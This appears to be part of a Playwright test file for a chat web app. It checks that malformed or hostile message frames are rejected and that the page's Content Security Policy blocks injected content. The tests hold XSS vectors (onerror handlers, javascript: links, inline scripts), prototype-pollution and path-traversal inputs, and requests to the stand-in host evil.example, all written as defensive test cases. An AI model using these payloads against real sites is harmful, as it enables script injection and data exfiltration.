  assert.deepEqual(await log(ann.page).locator('.name').allTextContents(), words.map((_, i) => names[i % names.length]));
  await isWell(ann);
});

test('a frame that the server would not have written is not shown, right though its checksum be', async t => {
  const good = (id, text) => record('message', `- file\n${frame(id, 1, 'Eve', text)}`);
  const bad = (id, data, before = '', behind = '') => record('message', `- file\n${before}id: ${id}\ndata: ${data}\n${behind}\n`);
  const json = (id, rest) => `{"id":${id},"t":1700000000000,"by":1,"name":"Eve","text":"bad"${rest}}`;
  const bads = [
    bad(11, json(11, ',"html":"<b>"')),
    bad(12, json(12, ',"__proto__":{"x":1}')),
    bad(13, json(13, ',"text":"twice"')),
    bad(14, json(14, '').replace('bad', '\\u003cscript>bad')),
    bad(15, json(15, '').replace('bad', 'bad\\/')),
    bad(16, json(16, '').replace('"by":1', '"by":"1"')),
    bad(17, json(17, '').replace('"by":1', '"by":{}')),
    bad(18, json(18, '').replace('"by":1', '"by":-1')),
    bad(19, json(19, '').replace('"by":1', '"by":1e0')),
    bad(20, json(20, '').replace('"text":"bad"', '"text":["bad"]')),
    bad(21, json(21, '').replace('"name":"Eve"', '"name":{"toString":"bad"}')),
    bad(22, json(22, '').replace('Eve', 'Eve\\u202e')),
    bad(23, json(23, '').replace('Eve', 'Eve\u202e')),
    bad(24, json(24, '').replace('Eve', ' Eve  x')),
    bad(25, json(25, '').replace('Eve', 'E'.repeat(65))),
    bad(26, json(26, '').replace('bad', 'bad\r')),
    bad(27, json(27, '').replace('bad', 'bad\0')),
    bad(28, json(28, '').replace('bad', 'bad' + 'x'.repeat(4000))),
    bad(29, json(30, '')),
    bad(31, json(31, ''), 'event: you\n'),
    bad(32, json(32, ''), '', 'event: gap\n'),
    bad(33, json(33, ''), '', 'data: {"by":1}\n'),
    bad(34, json(34, ''), 'retry: 1\n'),
    bad(35, json(35, '').replace('{', '{ ')),
    bad(36, '{"by":1,"name":"bad"}', 'event: you\n'),
    bad(37, json(37, '').replace(/"t":\d+/, '"t":1e400')),
    bad(38, json(38, '').replace(/"t":\d+/, '"t":-1')),
    bad(39, json(39, '').replace(/"t":\d+,/, '')),
    bad(40, json(40, '').replace('bad', '\xc3'), '').replace('\xc3', '\ufffd'),    // its checksum is of other bytes
    bad(5, json(5, '')),
    bad('0', json(0, '')),
    bad('9007199254740993', json('9007199254740993', '')),
    record('message', `- file\n${frame(50, 1, 'Eve', 'bad')}`).replace('Eve', 'Eva'),
    record('message', `- ../file\n${frame(51, 1, 'Eve', 'bad')}`),
  ];
  const file = [record('room', '1 2 0 0 0 file\n\n'), good(9, 'one'), good(10, 'two'), ...bads.flatMap((each, i) => [each, good(100 + i, 'good ' + i)])].join('');
  const ann = await openFile(t, file, 'file');
  const goods = ['one', 'two', ...bads.map((_, i) => 'good ' + i)];
  await saying(ann.page, 'good ' + (bads.length - 1)).waitFor();
  assert.deepEqual(await texts(ann.page), goods);
  assert.deepEqual([...new Set(await log(ann.page).locator('.name').allTextContents())], ['Eve']);
  await isWell(ann);
});

/* ---- the policy ---- */

test('normal use breaks no policy and leaves the console empty', async t => {
  const quiet = await Server.open();
  t.after(() => quiet.close());
  const [ann, bob] = [await comes(t, quiet), await comes(t, quiet)];
  await ann.join('tour', 'Ann');
  await bob.page.goto(quiet.origin + '/');
  await bob.page.getByRole('link', { name: /tour/ }).click();
  await bob.page.getByRole('textbox', { name: 'Your name' }).fill('ann');
  await bob.page.getByRole('button', { name: 'Join', exact: true }).click();
  await bob.page.getByRole('button', { name: 'ann 2' }).click();
  await live(bob.page);
  await box(bob.page).pressSequentially('Look at ');
  await ann.page.getByText('ann 2 is typing').waitFor();
  for (const text of ['http://10.0.0.5:8080/a?b=c#d', '*bold* _it_ `code`\n```\nblock\n```', '🎉', 'x'.repeat(4000), 'x'.repeat(4001)]) {
    await bob.say(text);
    if (text.length <= 4000) await saying(ann.page, text).waitFor();
  }
  await bob.page.getByRole('button', { name: 'Edit again' }).click();
  await box(bob.page).fill('');
  await bob.page.evaluate(() => fetch(location.pathname + '/join', { method: 'POST', body: new URLSearchParams({ name: 'Bob' }) }));
  await people(ann.page).getByText('Bob').waitFor();
  await log(ann.page).evaluate(node => { node.scrollTop = 0; });
  await bob.say('below');
  await ann.page.getByRole('button', { name: '1 new' }).click();
  await ann.page.reload();
  await live(ann.page);
  await saying(ann.page, 'below').waitFor();
  const second = await ann.context.newPage();
  ann.troubles.length = 0;    // the window that we opened
  await ann.join('tour two', 'Ann', second);
  await ann.say('here too', second);
  await saying(second, 'here too').waitFor();
  await second.emulateMedia({ colorScheme: 'dark', reducedMotion: 'reduce' });
  await second.setViewportSize({ width: 320, height: 600 });
  await second.emulateMedia({ media: 'print' });
  await second.emulateMedia({ media: 'screen' });
  await isWell(ann, second);
  await second.goBack();
  await second.goForward();
  await live(second);
  await second.close();
  await bob.page.getByRole('button', { name: 'Leave', exact: true }).click();
  await bob.page.getByRole('heading', { name: 'Pull up a chair.' }).waitFor();
  await people(ann.page).getByText('Bob').waitFor({ state: 'detached' });
  for (const person of [ann, bob]) {
    await isWell(person);
    assert.equal(await person.page.evaluate(() => 'violations' in window && window.violations.length), 0);
  }
});

/* What a hole in the page would do, done by hand: the policy stands behind it. */
const breaches = [
  ['an inline script', 'script-src-elem', () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'hit(1)' }))],
  ['a script of ours', 'script-src-elem', () => document.body.append(Object.assign(document.createElement('script'), { src: '/healthz' }))],
  ['a script of others', 'script-src-elem', () => document.body.append(Object.assign(document.createElement('script'), { src: 'http://evil.example/x.js' }))],
  ['an event handler', 'script-src-attr', () => { document.getElementById('quiet').innerHTML = '<img src="data:," onerror="hit(2)">'; }],
  ['a javascript: link', 'script-src-elem', () => Object.assign(document.createElement('a'), { href: 'javascript:hit(3)' }).click()],
  ['eval', 'script-src', () => setTimeout(() => new Function('hit(4)')())],
  ['a style element', 'style-src-elem', () => document.head.append(Object.assign(document.createElement('style'), { textContent: '*{display:none}' }))],
  ['a style attribute', 'style-src-attr', () => { document.getElementById('quiet').innerHTML = '<p style="position:fixed">x</p>'; }],
  ['a stylesheet', 'style-src-elem', () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '/healthz' }))],
  ['a picture of others', 'img-src', () => { new Image().src = 'http://evil.example/x.png'; }],
  ['a request to others', 'connect-src', () => fetch('http://evil.example/').catch(() => {})],
  ['a beacon to others', 'connect-src', () => navigator.sendBeacon('http://evil.example/')],
  ['a web socket to others', 'connect-src', () => { try { new WebSocket('ws://evil.example/'); } catch { /* refused */ } }],
  ['a frame', 'frame-src', () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/healthz' }))],
  ['an object', 'object-src', () => document.body.append(Object.assign(document.createElement('object'), { data: '/healthz' }))],
  ['a sound', 'media-src', () => { new Audio('/healthz').load(); }],
  ['a worker', 'worker-src', () => { try { new Worker('/healthz'); } catch { /* refused */ } }],
  ['a base', 'base-uri', () => document.head.append(Object.assign(document.createElement('base'), { href: 'http://evil.example/' }))],
  ['a form to others', 'form-action', () => {
    const form = Object.assign(document.createElement('form'), { action: 'http://evil.example/', method: 'post' });
    document.body.append(form);
    form.submit();
  }],
];

test('the policy is alive: it blocks and reports what a hole would let in', async t => {
  const ann = await comes(t);
  await ann.join('policy', 'Ann');
  for (const [what, directive, breach] of breaches) {
    ann.troubles.length = 0;
    await ann.page.evaluate(breach);
    await until(`${what} to be reported`, () => ann.troubles.some(each => each === 'violation of ' + directive), 5000)
      .catch(error => { throw new Error(`${error.message}, having ${JSON.stringify(ann.troubles)}`); });
    assert.deepEqual(ann.troubles.filter(each => /a script ran|^went to/.test(each)), [], what);
    assert.deepEqual(asked, [], what);
    assert.equal(new URL(ann.page.url()).origin, server.origin);
  }
  assert.ok(ann.complaints.length > 0, 'the console says so too');
});

test('without the policy a hole would be one: what these tests look at is alive', async t => {
  const context = await browser.newContext({ bypassCSP: true });
  t.after(() => context.close());
  const page = await context.newPage();
  const heard = [];
  await context.exposeBinding('told', (_, what) => { heard.push(what); });
  await context.addInitScript(listen);
  await page.goto(server.origin + '/');
  await page.evaluate(() => { document.getElementById('quiet').innerHTML = '<img src=//evil.example/x.png onerror=hit(1)><a href=javascript:hit(2)>x</a><style>*{}</style>'; });
  await until('the script to run', () => heard.includes('a script ran: 1'));
  await until('evil.example to be asked', () => asked.splice(0).includes('/x.png'));
  const strangers = await page.evaluate(findStrangers);
  for (const each of [/IMG/, /onerror/, /a link to javascript:/, /STYLE/]) assert.ok(strangers.some(stranger => each.test(stranger)), `${each} in ${strangers}`);
});

test('no other page may frame ours', async t => {
  const ann = await comes(t);
  for (const path of ['/', '/r/tea', '/healthz']) {
    const policy = (await fetch(`http://127.0.0.1:${server.port}${path}`)).headers.get('content-security-policy') || '';
    assert.ok(path === '/healthz' || /frame-ancestors 'none'/.test(policy), policy);
    assert.doesNotMatch(policy, /unsafe|\*|https?:/);
  }
  await ann.page.goto(server.origin + '/healthz');
  await ann.page.evaluate(() => document.body.append(Object.assign(document.createElement('iframe'), { src: '/r/tea' })));
  await until('the refusal', () => ann.complaints.some(each => /frame/i.test(each)));
});
